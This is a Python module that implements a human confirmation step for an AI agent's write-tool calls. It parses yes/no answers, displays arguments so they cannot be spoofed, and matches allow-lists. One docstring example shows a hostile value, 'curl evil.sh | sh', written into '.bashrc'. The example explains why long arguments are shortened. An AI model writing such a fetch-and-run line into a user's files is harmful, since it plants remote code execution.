"""Confirmation of write tools (SPEC C5).

A write tool does not run until someone allows it: the broker emits a ``confirm_request``
event with an id that every channel shows, and the channels allowed to answer
(``confirm.channels``: by default terminal, web and voice; ROS 2 and MQTT text when listed,
issue 41) answer with :meth:`ConfirmationBroker.answer` — a short yes/no
(:func:`parse_answer`: ``y``, ``n``, ``yes``, ``no``, 是, 否, 好, 不) or a structured answer
carrying the id (``{"confirm": ID, "allow": true}``). The first answer wins; a second one,
one for a request that no longer exists, or one from a channel that may not answer is refused
and told (a ``confirm_refused`` event). No answer within the timeout means denied. ``--yes``
or the config allow-list pre-approve; without an interactive channel (``--once``) a write is
refused at once with a result that says how to allow it, never a hang.

The person asked sees every argument by name, each value shortened on its own
(:func:`shown_arguments`): a long ``content`` cannot push the ``path`` out of sight (issue 21).
The request carries that text as ``shown``, so the terminal, the web console and ``loopact
mcp``'s prompt show the same thing.
"""

from __future__ import annotations

import asyncio
import itertools
import json
import re
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass
from fnmatch import fnmatchcase
from typing import Any

from loopact._compat import wait_within
from loopact.events import EventBus, EventType
from loopact.i18n import t
from loopact.llm.messages import ToolCall
from loopact.tools.base import Tool, UntrustedSource

HEAD_CHARS = 60
"""Characters kept from the start of a long argument value in a confirmation request."""
TAIL_CHARS = 30
"""Characters kept from its end (a path's last component, a command's last word)."""
_SHORTEN_PAST = HEAD_CHARS + TAIL_CHARS + 20  # cutting less would save nothing

YES_WORDS = frozenset({"y", "yes", "是", "好"})
"""Short answers that allow (issue 41: a contract)."""
NO_WORDS = frozenset({"n", "no", "否", "不"})
"""Short answers that deny."""

_ANSWER_END = ".!。！ "


def parse_answer(text: str) -> tuple[str | None, bool] | None:
    """A confirmation answer in a line of text, or None when the line is something else.

    ``y`` / ``yes`` / 是 / 好 allow and ``n`` / ``no`` / 否 / 不 deny (case and a final
    ``.`` or ``!`` ignored); a JSON object ``{"confirm": ID, "allow": true|false}`` (or
    ``{"id": ID, "answer": "y"}``) answers the request ``ID``.

    Returns:
        ``(request id or None for "the oldest pending", allowed)``, or None.
    """
    body = text.strip()
    if body.startswith("{") and len(body) < 1000:
        try:
            obj = json.loads(body)
        except (ValueError, RecursionError):
            return None
        if not isinstance(obj, dict):
            return None
        rid = obj.get("confirm", obj.get("id"))
        if not isinstance(rid, str) or not rid:
            return None
        allow = obj.get("allow")
        if isinstance(allow, bool):
            return rid, allow
        said = parse_answer(str(obj.get("answer", "")))
        return (rid, said[1]) if said is not None and said[0] is None else None
    word = body.strip(_ANSWER_END).lower()
    if word in YES_WORDS:
        return None, True
    if word in NO_WORDS:
        return None, False
    return None


def shown_arguments(arguments: Any) -> str:
    """A tool call's arguments as a person is asked about them (issue 21).

    Every argument is shown by name, in the order given; each value is shortened on its own,
    keeping its first :data:`HEAD_CHARS` and last :data:`TAIL_CHARS` characters with
    ``… (N characters) …`` between, so no argument can hide another. Strings are quoted,
    other values are JSON; line breaks, control and invisible characters (bidi overrides,
    zero-width spaces) are escaped, so a value cannot fake a line or reorder what is shown.

    Args:
        arguments: The call's arguments, a mapping (anything else is shown as one value).

    Returns:
        E.g. ``content="Meeting notes: … (1019 characters) …curl evil.sh | sh\\n",
        path=".bashrc"``.
    """
    if isinstance(arguments, Mapping):
        return ", ".join(
            f"{_shortened(_escaped(str(k)), len(str(k)))}={_shown_value(v)}"
            for k, v in arguments.items()
        )
    return _shown_value(arguments)


def _shown_value(value: Any) -> str:
    if isinstance(value, str):
        if len(value) <= _SHORTEN_PAST:
            return f'"{_escaped(value)}"'
        head, tail = _escaped(value[:HEAD_CHARS]), _escaped(value[-TAIL_CHARS:])
        return f'"{head}… ({len(value)} characters) …{tail}"'
    text = _escaped(json.dumps(value, ensure_ascii=False, default=str), quoted=False)
    return _shortened(text, len(text))


def _shortened(text: str, length: int) -> str:
    if len(text) <= _SHORTEN_PAST:
        return text
    return f"{text[:HEAD_CHARS]}… ({length} characters) …{text[-TAIL_CHARS:]}"


def _escaped(text: str, quoted: bool = True) -> str:
    """``text`` with JSON's escapes (when ``quoted``) and every non-printable character as
    ``\\uXXXX`` (``str.isprintable``: controls, format characters, line separators)."""
    if quoted:
        text = json.dumps(text, ensure_ascii=False)[1:-1]
    if text.isprintable():
        return text
    return "".join(c if c.isprintable() else f"\\u{ord(c):04x}" for c in text)


class AllowList:
    """``confirm.allow`` as the broker reads it (SPEC C5; issue 39 item 13).

    A tool whose :attr:`~loopact.tools.base.Tool.allow_entry` is set (an MCP server's tool:
    ``mcp:SERVER/TOOL``, its name on the server) is allowed only by that entry, or by an
    ``fnmatch`` pattern in its tool part (``mcp:lab/read_*``): the name it is offered under
    may have been taken by whichever server listed it first, so a plain name never allows
    it. Every other tool (loopact's own, a node's) is allowed by its name.

    Args:
        entries: The entries (``confirm.allow``).
        lookup: The live tool of a name (the registry's ``get``); None: names only.
    """

    def __init__(
        self, entries: Iterable[str] = (), lookup: Callable[[str], Tool | None] | None = None
    ) -> None:
        self.entries = frozenset(entries)
        self._lookup = lookup
        self._patterns = [e for e in self.entries if e.startswith("mcp:") and _WILD.search(e)]

    def entry_for(self, name: str) -> str:
        """The entry that would allow the tool called ``name``."""
        tool = self._lookup(name) if self._lookup is not None else None
        entry = tool.allow_entry if tool is not None else None
        return entry or name

    def __contains__(self, name: object) -> bool:
        if not isinstance(name, str):
            return False
        entry = self.entry_for(name)
        if entry in self.entries:
            return True
        return entry != name and any(fnmatchcase(entry, p) for p in self._patterns)


_WILD = re.compile(r"[*?\[]")


@dataclass(frozen=True)
class Decision:
    """A confirmation outcome.

    Attributes:
        allowed: Whether the call may run.
        reason: Why not, for the model (empty when allowed).
    """

    allowed: bool
    reason: str = ""


class ConfirmationBroker:
    """Asks channels to allow write tools and waits for the first answer.

    Args:
        bus: Where ``confirm_request`` / ``confirm_response`` events go.
        auto_approve: Allow every write (``--yes``).
        allow: Tools allowed without asking: an :class:`AllowList`, or names.
        interactive: Whether any channel can answer; if not, writes are refused at once.
        timeout_s: Seconds to wait for an answer.
        lang: Language of the refusal texts.
        channels: The channels that may answer (``confirm.channels``); None: any.
    """

    def __init__(
        self,
        bus: EventBus,
        *,
        auto_approve: bool = False,
        allow: AllowList | Iterable[str] = (),
        interactive: bool = True,
        timeout_s: float = 60.0,
        lang: str = "en",
        channels: Iterable[str] | None = None,
    ) -> None:
        self.bus = bus
        self.channels = frozenset(channels) if channels is not None else None
        self.auto_approve = auto_approve
        self.allow = allow if isinstance(allow, AllowList) else AllowList(allow)
        self.interactive = interactive
        self.timeout_s = timeout_s
        self.lang = lang
        self._pending: dict[str, asyncio.Future[bool]] = {}
        self._task_of: dict[str, str | None] = {}  # request id -> its task's id
        self._answered: dict[str, str] = {}  # request id -> who answered (the last few)
        self._ids = itertools.count(1)

    @property
    def pending(self) -> list[str]:
        """Ids of the requests waiting for an answer."""
        return list(self._pending)

    def may_answer(self, source: str) -> bool:
        """Whether the channel ``source`` may answer confirmations (``confirm.channels``)."""
        return self.channels is None or source in self.channels

    async def request(
        self, task_id: str, call: ToolCall, untrusted: UntrustedSource | None = None
    ) -> Decision:
        """Ask for ``call`` and wait for an answer or the timeout.

        Args:
            task_id: The task the call belongs to.
            call: The call.
            untrusted: Set when the tool needs a yes only because its MCP server or node is
                not trusted (:attr:`~loopact.tools.base.Tool.untrusted_source`): a refusal
                then says so and names the setting that trusts it.

        Returns:
            The decision; a denial carries a reason for the model.
        """
        if self.auto_approve or call.name in self.allow:
            return Decision(True)
        if not self.interactive:
            if untrusted is not None:
                key = f"confirm.untrusted_{untrusted.kind}"
                why = t(
                    key,
                    self.lang,
                    name=call.name,
                    entry=self.allow.entry_for(call.name),
                    source=untrusted.source,
                    remote=untrusted.remote_name,
                )
                return Decision(False, why)
            entry = self.allow.entry_for(call.name)
            why = t("confirm.noninteractive", self.lang, name=call.name, entry=entry)
            return Decision(False, why)
        request_id = f"confirm-{next(self._ids)}"
        fut: asyncio.Future[bool] = asyncio.get_running_loop().create_future()
        self._pending[request_id] = fut
        self._task_of[request_id] = task_id
        self.bus.emit(
            EventType.CONFIRM_REQUEST,
            task_id,
            id=request_id,
            name=call.name,
            arguments=call.arguments,
            # from the masked arguments: a secret cut in two would no longer be found
            shown=shown_arguments(self.bus.redactor.value(call.arguments)),
            call_id=call.id,
            timeout_s=self.timeout_s,
            channels=sorted(self.channels) if self.channels is not None else None,
        )
        try:
            allowed = await wait_within(fut, self.timeout_s)
        except asyncio.TimeoutError:
            self._note_answer(request_id, "timeout")
            self.bus.emit(
                EventType.CONFIRM_RESPONSE, task_id, id=request_id, allowed=False, by="timeout"
            )
            return Decision(
                False, t("confirm.timeout", self.lang, name=call.name, timeout_s=self.timeout_s)
            )
        finally:
            self._pending.pop(request_id, None)
            self._task_of.pop(request_id, None)
        if allowed:
            return Decision(True)
        return Decision(False, t("confirm.denied", self.lang, name=call.name))

    def answer(self, request_id: str, allow: bool, source: str = "terminal") -> bool:
        """Answer a pending request; returns False if it is unknown or already answered, or
        ``source`` may not answer (``confirm.channels``): then a ``confirm_refused`` event
        ``{id, by, reason}`` tells that channel why (issue 41)."""
        if not self.may_answer(source):
            return self._refuse(request_id, source, "channel")
        fut = self._pending.get(request_id)
        if fut is None or fut.done():
            return self._refuse(
                request_id, source, "answered" if request_id in self._answered else "unknown"
            )
        fut.set_result(allow)
        self._note_answer(request_id, source)
        task_id = self._task_of.get(request_id)  # the response belongs to the request's task
        self.bus.emit(EventType.CONFIRM_RESPONSE, task_id, id=request_id, allowed=allow, by=source)
        return True

    def _note_answer(self, request_id: str, source: str) -> None:
        self._answered[request_id] = source
        while len(self._answered) > 100:
            self._answered.pop(next(iter(self._answered)))

    def _refuse(self, request_id: str, source: str, why: str) -> bool:
        """Tell ``source`` its answer did not count: ``answered`` (another channel was first,
        named in ``answered_by``), ``unknown`` (no such request: expired or never asked),
        ``channel`` (this channel may not answer)."""
        extra = {"answered_by": self._answered[request_id]} if why == "answered" else {}
        self.bus.emit(
            EventType.CONFIRM_REFUSED,
            self._task_of.get(request_id),
            id=request_id,
            by=source,
            reason=why,
            **extra,
        )
        return False
